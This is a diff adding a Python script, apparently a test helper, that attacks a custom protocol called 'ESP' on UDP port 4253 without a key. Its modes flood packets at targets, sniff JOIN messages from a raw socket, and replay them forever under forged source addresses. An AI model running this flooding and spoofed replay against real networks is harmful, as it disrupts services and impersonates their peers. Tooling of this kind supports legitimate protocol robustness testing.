@@ -1,0 +1,86 @@
+# An attacker of live ESP who has no key.
+# usage: esp_attack.py absent PACKETS_PER_S ADDRESS...   ESP packets to each in turn, until it is ended
+#        esp_attack.py hear DEVICE FILE                  JOINs that pass by, with their senders
+#        esp_attack.py again FILE TO SOURCE...           what was heard once more, for ever: in the
+#                                                        sender's name, and in that of each SOURCE
+#        esp_attack.py sees DEVICE ADDRESS               exits with 0 when a packet for it comes
+# "ready" is printed when it has begun (again: when all has been sent once).
+import itertools
+import socket
+import struct
+import sys
+import time
+import zlib
+
+PORT, JOIN, X = 4253, 66, 0x01
+
+
+def nop(number):
+    head = struct.pack(">BBHQ", X, 0, 0, number)
+    return head + struct.pack(">I", zlib.crc32(head))
+
+
+def udp_to(address):
+    family = socket.AF_INET6 if ":" in address else socket.AF_INET
+    return socket.socket(family, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK), (address, PORT)
+
+
+def absent(rate, *addresses):
+    ends = [udp_to(a) for a in addresses]
+    began = time.monotonic()
+    for i, (link, to) in enumerate(itertools.cycle(ends)):
+        try:
+            link.sendto(nop(i), to)
+        except OSError:
+            pass  # our own neighbour is not known yet
+        if i == len(ends):
+            print("ready", flush=True)
+        ahead = i / float(rate) - (time.monotonic() - began)
+        if ahead > 0.01:
+            time.sleep(ahead)
+
+
+def hear(device, path):
+    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+    link.bind((device, 0))
+    print("ready", flush=True)
+    with open(path, "w") as file:
+        while True:
+            frame = link.recv(2000)
+            if len(frame) > 43 and frame[14] == 0x45 and frame[23] == 17 and frame[43] == JOIN and \
+                    struct.unpack(">H", frame[36:38])[0] == PORT:
+                len_of = struct.unpack(">H", frame[38:40])[0]
+                print(socket.inet_ntoa(frame[26:30]), struct.unpack(">H", frame[34:36])[0],
+                      frame[42:34 + len_of].hex(), file=file, flush=True)
+
+
+def sees(device, address):
+    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x86DD if ":" in address else 0x0800))
+    link.bind((device, 0))
+    wanted = socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)
+    at = 38 if ":" in address else 30
+    until = time.monotonic() + 2
+    link.settimeout(2)
+    while time.monotonic() < until:
+        frame = link.recv(2000)
+        if frame[at:at + len(wanted)] == wanted:
+            return
+    sys.exit(1)
+
+
+def again(path, to, *sources):
+    letters = [line.split() for line in open(path)]
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW | socket.SOCK_NONBLOCK, socket.IPPROTO_RAW)
+    for turn in itertools.count():
+        for sender, port, octets in letters:
+            udp = struct.pack(">HHHH", int(port), PORT, 8 + len(octets) // 2, 0) + bytes.fromhex(octets)
+            for source in (sender, *sources):
+                packet = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
+                                     socket.inet_aton(source), socket.inet_aton(to)) + udp
+                raw.sendto(packet, (to, 0))
+                time.sleep(0.0005)
+        if turn == 0:
+            print("ready", flush=True)
+
+
+{"absent": absent, "hear": hear, "again": again, "sees": sees}[sys.argv[1]](*sys.argv[2:])
